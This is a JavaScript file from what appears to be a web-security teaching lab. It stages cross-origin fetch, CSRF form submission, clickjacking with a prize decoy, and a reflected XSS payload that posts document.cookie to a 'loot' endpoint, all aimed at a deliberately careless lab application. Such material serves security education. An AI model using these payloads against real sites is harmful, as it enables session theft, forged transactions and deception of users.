// The attacks that begin on the attacker's site. Each tells the lab, which shows this page in a frame, how it went.
"use strict";

const { attack, target } = document.documentElement.dataset;
const run = location.hash.slice(1);

/** The careless application's address for `path`, as part of this run. */
function at(path) {
  return `${target}/lab/careless/${path}${path.includes("?") ? "&" : "?"}lab_run=${run}`;
}

function tell(result) {
  parent.postMessage({ run, ...result }, target);
}

function say(text) {
  document.getElementById("said").textContent = text;
}

/** A script that carries something off and tells of it. */
function payload() {
  return `<script>document.body.append("A script of the attacker, running as " + origin);`
    + `fetch("/lab/careless/loot?lab_run=${run}", { method: "POST", body: document.cookie });`
    + `parent.postMessage({ run: "${run}", ran: true }, origin)</script>`;
}

const attacks = {
  async "foreign-fetch"() {
    try {
      const response = await fetch(at("account"), { credentials: "include" });
      const read = await response.text();
      say(`What this page has read: ${read}`);
      tell({ succeeded: true, read });
    } catch (error) {
      say("This page asked for your account and could not read the answer.");
      tell({ succeeded: false, error: String(error) });
    }
  },

  "foreign-form"() {
    const answer = document.createElement("iframe");
    answer.name = "answer";
    answer.title = "The bank’s answer";
    answer.className = "quiet";
    const form = document.createElement("form");
    form.method = "post";
    form.action = at("transfer");
    form.target = "answer";
    document.body.append(answer, form);
    answer.addEventListener("load", () => {
      say("This page has submitted a form to your bank.");
      tell({ sent: true });
    }, { once: true });
    form.submit();
  },

  "reflected-xss"() {
    location.replace(at(`search?q=${encodeURIComponent(payload())}`));
  },

  framing() {
    const decoy = document.createElement("div");
    decoy.className = "decoy";
    const frame = document.createElement("iframe");
    frame.title = "Your bank";
    frame.addEventListener("load", () => {
      // Nobody may look into another site's page, but everybody may count the frames in it. The bank's page has one.
      const succeeded = frame.contentWindow.length > 0;
      if (succeeded) {
        const prize = document.createElement("span");
        prize.textContent = "Claim your prize";
        decoy.append(prize);
      } else {
        say("This page tried to show your bank.");
      }
      tell({ succeeded });
    }, { once: true });
    frame.src = at("bank");
    decoy.append(frame);
    document.querySelector("main").append(decoy);
  },
};

attacks[attack]?.();
